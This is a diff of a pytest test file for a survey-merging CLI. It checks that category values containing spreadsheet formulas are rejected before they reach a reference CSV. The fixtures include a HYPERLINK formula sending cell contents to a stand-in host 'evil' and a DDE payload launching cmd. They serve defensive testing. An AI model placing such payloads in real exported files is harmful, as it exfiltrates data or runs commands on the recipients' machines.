@@ -7,8 +7,13 @@ import pytest
 from typer.testing import CliRunner
 
 import tests.study.world as worlds
+from predbayes.errors import DataError
 from predbayes_study.cli.app import app
 from predbayes_study.kit.kit import Kit, Labels
+from predbayes_study.plan.schema import Plan
+from predbayes_study.trust.signing import SigningKey
+from tests.study.commands import predbayes
+from tests.study.invented import DRAFT, survey_of, table
 
 LINK = '=HYPERLINK("http://evil/?"&A1,"x")'
 CALL = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -95,6 +100,49 @@ def test_reference_rows_hold_no_formula_and_are_read_back(world):
     assert len(Labels.load(world.labels_path, kit).reference.targets)
     coded = kit.inputs[:, -4:]  # three words and other ones
     assert coded.sum(0).min() > 0
+
+
+FORMULAS = (LINK[:30], "+1+cmd", "-ve", "@sum(a1)", "x;=1+1", "＝1+1", "'=1")
+WORDS = ("-", "+", "++", "+/-", "-1", "+2.5", "a-b")
+
+
+@pytest.mark.parametrize("word", [*FORMULAS, *WORDS])
+def test_no_survey_brings_a_formula_into_a_plan_and_its_reference_rows(tmp_path, word):
+    """A frequent word of a site is proposed as a category, and is drawn as a cell."""
+    (tmp_path / "draft.toml").write_text(DRAFT)
+    draft = Plan.loads(DRAFT)
+    frames = {name: table(name) for name in ("Graz", "Brno", "Split")}
+    frames["Split"].loc[: len(frames["Split"]) // 2, "smoking"] = word
+    keys = {name: SigningKey.generate() for name in frames}
+    told = [
+        survey_of(frames[name], tmp_path, name, of=draft, key=keys[name])
+        for name in ("Graz", "Brno")
+    ]
+    if word in FORMULAS:
+        with pytest.raises(DataError, match=r"^`smoking`: .* Map it to another with `recode`"):
+            survey_of(frames["Split"], tmp_path, "Split", of=draft)
+        frames["Split"].loc[frames["Split"]["smoking"] == word, "smoking"] = "mapped"
+    told.append(survey_of(frames["Split"], tmp_path, "Split", of=draft, key=keys["Split"]))
+    content = told[-1].file(keys["Split"])
+    if word in FORMULAS:  # as a site writes it with software of its own
+        of = told[-1].columns["smoking"]
+        evil = of.model_copy(update={"unlisted": {word: of.unlisted["mapped"]}})
+        columns = {**told[-1].columns, "smoking": evil}
+        content = told[-1].model_copy(update={"columns": columns}).file(keys["Split"])
+    for one in told:
+        (tmp_path / f"{one.site}.survey").write_bytes(one.file(keys[one.site]))
+    (tmp_path / "Split.survey").write_bytes(content)
+    surveys = [f"{name}.survey" for name in frames]
+    options = ("--out", "plan.toml", "--reference", "300")
+    done = predbayes("plan", "merge", "draft.toml", *surveys, *options, cwd=tmp_path)
+    if word in FORMULAS:
+        assert done.code == 2
+        assert "a word is a formula; its site recodes it" in done.err
+        assert not (tmp_path / "plan-reference.csv").exists()
+    else:
+        assert done.code == 0, done.err
+        drawn = pd.read_csv(tmp_path / "plan-reference.csv", dtype=str)
+        assert word in set(drawn["smoking"])
 
 
 def test_pages_show_markup_as_text(result):
